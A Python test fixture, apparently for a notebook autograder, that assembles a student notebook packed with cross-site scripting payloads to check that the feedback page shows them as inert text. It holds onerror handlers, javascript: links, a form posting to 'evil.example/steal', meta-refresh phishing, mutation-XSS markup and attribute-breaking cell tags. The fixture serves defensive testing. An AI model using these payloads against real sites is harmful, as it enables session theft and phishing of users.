"""Submissions that try to put active content into their own feedback page.

Every route a student controls: raw HTML in a markdown cell of their own, HTML and Markdown
outputs, an image output whose metadata ``width`` breaks out of its attribute, an SVG output,
cell tags. Every one of them must reach the feedback as inert text or not at all.
"""

from __future__ import annotations

import nbformat
from assignment_helpers import student_notebook

EVIL = "https://evil.example"

# Raw HTML in a markdown cell: nbgrader renders markdown without cleaning it.
MARKDOWN_ATTACKS = f"""
## My notes

<b>rt-md-bold</b>

<img src=x onerror="window.rtMd='rt-md-canary'">

<svg><script>window.rtSvg = 'rt-svg-canary'</script></svg>

<a href="javascript:alert(document.domain)">rt-js-link</a>
<a href=" JaVa&#x09;ScRiPt:alert(1)">rt-obfuscated-link</a>
<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">rt-data-link</a>

<meta http-equiv="refresh" content="0;url={EVIL}/phish">

<form action="{EVIL}/steal" method="post"><input name="q"><button>rt-form</button></form>

<img src="{EVIL}/track.png" alt="rt-tracker">
<img src="//evil.example/protocol-relative.png">
<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">
<div style="background: url({EVIL}/bg.png)">rt-styled</div>

<style>body {{ background: url({EVIL}/css.png); }} @import url({EVIL}/x.css);</style>

<iframe src="{EVIL}/frame"></iframe>
<object data="{EVIL}/x.swf"></object>
<embed src="{EVIL}/x.swf">
<base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/x.css">
<details open ontoggle="window.rtToggle=1"><summary>rt-details</summary></details>
[rt-md-js-link](javascript:alert(document.cookie)) and ![rt-md-image]({EVIL}/md.png)
"""

# Markup that parsers disagree on (mutation XSS); last, as an unclosed <style> may swallow
# the rest of the page.
MUTATION_ATTACK = '<math><mtext><table><mglyph><style><img src=x onerror="window.rtMx=1">'

# A 1x1 PNG.
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kg"
       "AAAABJRU5ErkJggg==")

# Outputs: an image whose metadata width is written unquoted, HTML, Markdown and SVG.
OUTPUT_ATTACKS = f'''
import base64
from IPython.display import HTML, SVG, Image, Markdown, display

png = base64.b64decode({PNG!r})
display(Image(data=png, format="png", width="1 onerror=alert(document.domain)",
              height="1 onload=alert(2)"))
display({{"image/png": {PNG!r}}},
        metadata={{"image/png": {{"width": "1 onerror=alert(3)", "unconfined": True}}}},
        raw=True)
display(HTML('<a href="javascript:alert(4)">rt-html-link</a><img src="{EVIL}/out.png">'
             '<form action="{EVIL}/f"><input></form>'))
display(Markdown('<img src=x onerror=alert(5)> [rt-markdown-out](javascript:alert(6))'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(7)</script>'
            '<image href="{EVIL}/svg.png" width="1" height="1"/></svg>'))
print("rt-outputs-done")
'''


def hostile_feedback_notebook(assignment: str = "stable_bce") -> nbformat.NotebookNode:
    """A correct solution with one hostile markdown cell and one hostile code cell (tagged)."""

    def edit(nb):
        from nbformat.v4 import new_code_cell, new_markdown_cell

        markdown = new_markdown_cell(MARKDOWN_ATTACKS)
        markdown.metadata["tags"] = ['"><img src=x onerror=alert(8)>']
        code = new_code_cell(OUTPUT_ATTACKS)
        code.metadata["tags"] = ['x" onmouseover="alert(9)']
        nb.cells += [markdown, code, new_markdown_cell(MUTATION_ATTACK)]

    return student_notebook(assignment, answers={}, edit=edit)
